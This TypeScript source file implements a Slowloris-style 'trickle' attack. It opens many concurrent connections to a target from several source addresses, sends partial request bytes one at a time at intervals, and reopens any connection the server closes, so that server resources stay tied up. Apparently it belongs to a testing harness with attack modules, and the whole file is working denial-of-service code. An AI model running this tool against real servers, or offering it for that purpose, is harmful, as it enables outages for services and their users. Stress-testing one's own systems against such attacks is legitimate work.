import type { Socket } from 'node:net';
import { type AttackTimer, startAttackTimer } from '../support/attack-timer.ts';
import { responseParser } from '../support/response-parser.ts';
import { openTally, type Tally } from '../support/tally.ts';
import { connectFrom, untilClosed } from '../support/wire.ts';
import type { AttackOptions, Report, Target } from './attack.ts';

export interface TrickleOptions extends AttackOptions {
  readonly from: readonly string[];
  /** Total number, spread over the addresses. */
  readonly connections: number;
  /** The first bytes on each connection; default none. */
  readonly start?: string;
  /** Sent repeatedly after that, one byte every `every_ms`; default none. */
  readonly drip?: string;
  readonly every_ms?: number;
  /** Replaces connections that are closed. */
  readonly again?: boolean;
}

/** Connections opened concurrently. */
const OPENING = 50;

/**
 * Holds connections that never complete a request. `slowest_ms` is the longest open time, `held` the number still open.
 */
export async function trickle(target: Target, options: TrickleOptions): Promise<Report> {
  const timer = startAttackTimer(options.seconds);
  const tally = openTally();
  const { from, connections } = options;
  const lives: Promise<void>[] = [];
  let next = 0;
  const openers = Array.from({ length: Math.min(OPENING, connections) }, async () => {
    for (let n = next++; n < connections && !timer.isOver(); n = next++) {
      const address = from[n % from.length] ?? '127.0.0.1';
      const socket = await connectFrom(target, address);
      if (socket === undefined) tally.count('refused');
      else lives.push(live(socket, target, address, options, timer, tally));
    }
  });
  await Promise.all(openers);
  await Promise.all(lives);
  return tally.report();
}

async function live(
  first: Socket,
  target: Target,
  from: string,
  options: TrickleOptions,
  timer: AttackTimer,
  tally: Tally,
): Promise<void> {
  await hold(first, options, timer, tally);
  while (options.again === true && !timer.isOver()) {
    await timer.pause(100);
    const socket = await connectFrom(target, from);
    if (socket !== undefined) await hold(socket, options, timer, tally);
  }
}

async function hold(
  socket: Socket,
  { start, drip = '', every_ms = 1_000 }: TrickleOptions,
  timer: AttackTimer,
  tally: Tally,
): Promise<void> {
  const openedAt = performance.now();
  tally.count('connections');
  const reader = responseParser((answer) => tally.answer(answer));
  socket.on('data', (bytes: Buffer) => reader.read(bytes.toString('latin1')));
  socket.once('end', () => socket.destroy());
  if (start !== undefined) socket.write(start);
  let at = 0;
  const dripping = setInterval(() => {
    if (socket.writable && drip !== '') socket.write(drip[at++ % drip.length] ?? '');
  }, every_ms);
  await untilClosed(socket, timer.signal);
  clearInterval(dripping);
  if (!socket.closed) tally.count('held');
  tally.waited(performance.now() - openedAt);
  socket.destroy();
}
